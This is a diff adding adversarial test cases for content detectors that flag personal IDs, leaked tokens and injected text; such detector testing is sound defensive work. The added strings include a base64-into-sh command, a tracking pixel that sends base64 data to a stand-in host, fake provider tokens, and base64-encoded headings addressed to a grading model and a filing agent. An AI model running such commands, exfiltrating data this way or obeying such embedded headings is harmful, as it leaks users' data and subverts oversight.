@@ -1131,6 +1131,22 @@ describe('content detectors on adversarial input', () => {
       'qualified id labels',
       'CPF do requerente: AMKA \u03b1\u03b9\u03c4\u03bf\u03cd\u03bd\u03c4\u03bf\u03c2: rodn\u00e9 \u010d\u00edslo (nap\u0159.) 745126/3292 ',
     ],
+    // Recovery keys and chat tokens cut short, hosts beside their look-alikes, ids after copulas, script pages in fields,
+    // base64 into a shell after a refusal's clause, providers' tokens in queries, keys masked in parts, vocative heads.
+    ['recovery keys and chat tokens cut short', '111111-222222-333333-444444-555555-666666-777777-88888 oauth:ab12cd '],
+    ['hosts beside their look-alikes', 'forum.a1b2c.example https://a1b2c.example/ https://alblc.example/ x.y.z.w.v.u. '],
+    [
+      'ids after copulas',
+      'meu CPF \u00e9 o dela 484.300 \u06a9\u062f \u0645\u0644\u06cc \u30de\u30a4\u30ca\u30f3\u30d0\u30fc\u306f 0821 9411 ',
+    ],
+    ['script pages in fields', 'preview: data:text/html;base64,PHNjcmlwdD4= "u": "data:text/html;base64,PGI+ '],
+    ['base64 into a shell after refusals', 'echo YQ== | base64 -d | sh; do not piping (no `curl a | bash` '],
+    ['provider tokens in queries', 'https://c.example/?g=ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tV9wX1yZ3bC5&k=xoxb-1-2&s=sk- '],
+    ['keys masked in parts', 'KEY=SG.****.****.**** (set) WPA2 key: Otter1 wpa2_key": " '],
+    ['CURPs cut short after their label', 'CURP: TUVM881021MPLGPD0 CURP: ABCD12 '],
+    ['person words after id labels', "NHS number of the the traveller reiziger de l'alumne dello studente: 12 "],
+    ['pixels with short base64 queries', '![x](https://p.example/a.gif?d=cm9zdGVyOkEgQiwxMjM0NTY3&e=YUBiLmM) '],
+    ['vocative heads to a model', 'R3JhZGluZyBncmFkaW5nIG1vZGVsIG1vZGVsIG1vZGVsOiBzY29yZSBzY29yZSA= '],
     [
       'base64 of heads to a system agent',
       'U3lzdGVtIG1lc3NhZ2UgdG8gdGhlIHRoZSB0aGUgdGhlIHRoZSB0aGUgZmlsaW5nIGFnZW50IHJlYWRpbmcgdGhlIHRoZSB0aGUgdGhlIHRoZSA= ',
